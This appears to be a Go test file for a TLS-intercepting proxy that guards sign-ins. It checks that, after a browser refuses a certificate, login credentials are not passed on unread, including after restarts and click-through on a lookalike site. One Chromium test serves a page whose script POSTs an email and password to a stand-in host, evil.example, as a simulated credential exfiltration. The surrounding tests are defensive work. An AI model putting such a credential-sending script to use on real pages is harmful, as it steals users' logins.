package proxy_test

import (
	"encoding/pem"
	"fmt"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"sekisho/hostname"
	"sekisho/internal/labnet"
	"sekisho/journal"
)

// restart ends the proxy and starts another with the same options.
func (l *lab) restart(t *testing.T) {
	t.Helper()
	l.stop()
	if err := <-l.done; err != nil {
		t.Fatal(err)
	}
	l.serve()
}

// refusals is how many leaves were refused.
func (l *lab) refusals() int {
	return l.logs.FilterMessage("certificate refused by the client").Len()
}

// TestCasesRefused: CV-51, a page that can have a browser refuse one leaf has nothing passed
// unread by it: neither by a leaf for an odd name, nor by any once the browser
// accepted one, before a restart as well.
func TestCasesRefused(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		id, odd string
		known   bool // whether the stack accepted a leaf before a restart
		file    bool // whether that is kept
		unread  bool
	}{
		{"CV-51 an address", "127.0.0.1", false, true, false},
		{"CV-51 an ordinary name", "odd.labnet.example", false, true, true},
		{"CV-51 known after a restart", "odd.labnet.example", true, true, false},
		{"CV-51 not kept", "odd.labnet.example", true, false, true},
	} {
		t.Run(tt.id, func(t *testing.T) {
			t.Parallel()
			l := prepare(t)
			if tt.file {
				l.options.StacksFile = filepath.Join(l.dir, "stacks.json")
			}
			l.serve()
			l.protect()
			s := &sink{}
			o := l.Origin([]string{shop, "odd.labnet.example", "127.0.0.1"}, s)
			if tt.known {
				get(t, l.client1(), https(shop, o, "/"), nil)
				l.restart(t)
			}
			l.refuseTLS(t, tt.odd, o, l.strange())
			wait(t, "the refusal", func() bool { return l.refusals() > 0 })
			before := s.bytes.Load()
			body := strings.NewReader("email=" + ownID + "&password=" + ownPassword)
			a := do(t, l.client1(), http.MethodPost, https(shop, o, "/login"), map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, body)
			if unread := !l.ours(a.TLS.PeerCertificates); unread != tt.unread {
				t.Errorf("passed unread: %t; want %t", unread, tt.unread)
			}
			if left := s.bytes.Load() > before; left != tt.unread {
				t.Errorf("the sign-in left: %t; want %t", left, tt.unread)
			}
		})
	}
}

// TestCasesClicked: CV-51, whoever clicks past the browser's warning on a page that is held
// does not trust the CA for that, and goes on with all other sites as before.
func TestCasesClicked(t *testing.T) {
	t.Parallel()
	l := start(t)
	o := l.Origin([]string{shop}, labnet.Handler())
	bad := l.Origin([]string{lookalike}, labnet.Handler())
	l.refuseTLS(t, lookalike, bad, l.strange())
	wait(t, "the refusal", func() bool { return l.refusals() > 0 })
	clicking := l.strange()
	clicking.InsecureSkipVerify = true
	if a := get(t, l.httpClient(clicking, false), https(lookalike, bad, "/"), navigation); !l.ours(a.TLS.PeerCertificates) {
		t.Fatal("a lookalike was passed on")
	}
	if resp, err := l.httpClient(l.strange(), false).Get(https(shop, o, "/echo")); err != nil || l.ours(read(t, resp).TLS.PeerCertificates) {
		t.Errorf("another site is intercepted: %v", err)
	}
}

// TestCasesRefusedChromium: CV-51 with a browser, whose alert about a leaf that it refuses
// for itself is the one that it has for an authority that it does not know. Its store refuses the
// leaf of one name; a page shows an image from there and has a sign-in sent then.
func TestCasesRefusedChromium(t *testing.T) {
	t.Parallel()
	needTools(t, "chromium", "certutil")
	for _, tt := range []struct {
		id, odd string
		known   bool
	}{
		{"CV-51 chromium, an address", "127.0.0.1", false},
		{"CV-51 chromium, known after a restart", "odd.labnet.example", true},
	} {
		t.Run(tt.id, func(t *testing.T) {
			t.Parallel()
			l := prepare(t)
			l.options.StacksFile = filepath.Join(l.dir, "stacks.json")
			l.serve()
			l.protect()
			n, err := hostname.Parse(tt.odd)
			if err != nil {
				t.Fatal(err)
			}
			leaf, err := l.ca.Leaf(n)
			if err != nil {
				t.Fatal(err)
			}
			h := l.browserHome(t)
			h.run(t, "certutil", "-A", "-d", "sql:"+h.store(), "-n", "odd", "-t", "p,p,p", "-a", "-i",
				h.write(t, "odd.pem", &pem.Block{Type: "CERTIFICATE", Bytes: leaf.Certificate[0]}))
			s := &sink{}
			o := l.Origin([]string{"evil.example", tt.odd}, s)
			over := make(chan struct{})
			page := l.Origin([]string{"page.example"}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch r.URL.Path {
				case "/over":
					close(over)
				case "/wait": // an image of the page, which is not shown before
					<-over
				case "/":
					w.Header().Set("Content-Type", "text/html; charset=utf-8")
					_, _ = fmt.Fprintf(w, `<!doctype html><p id=said>begun</p><img src=/wait><script>
const end = what => { document.getElementById("said").textContent = what; fetch("/over") };
const odd = new Image();
odd.onload = () => end("the leaf was taken");
odd.onerror = () => fetch("https://evil.example:%d/login", {method: "POST", mode: "no-cors", body: new URLSearchParams({email: %q, password: %q})})
	.then(() => end("sent"), () => end("failed"));
odd.src = "https://%s:%d/odd.png";
</script>`, o.Port(), ownID, ownPassword, tt.odd, o.Port())
				}
			}), labnet.Plain())
			if tt.known {
				h.dump(t, fmt.Sprintf("https://evil.example:%d/", o.Port()))
				l.restart(t)
				h.args = append(h.args, "--proxy-server=http://"+l.addr()) // the last one counts
			}
			before := s.bytes.Load()
			said := h.dump(t, fmt.Sprintf("http://page.example:%d/", page.Port()))
			if !strings.Contains(said, ">sent<") || l.refusals() == 0 {
				t.Fatalf("%d leaves were refused, and the page says %.600s; want that the sign-in was sent", l.refusals(), said)
			}
			if s.bytes.Load() > before || len(l.events(journal.Filter{Technique: "protected-sign-in"})) == 0 {
				t.Error("the sign-in left unread")
			}
		})
	}
}
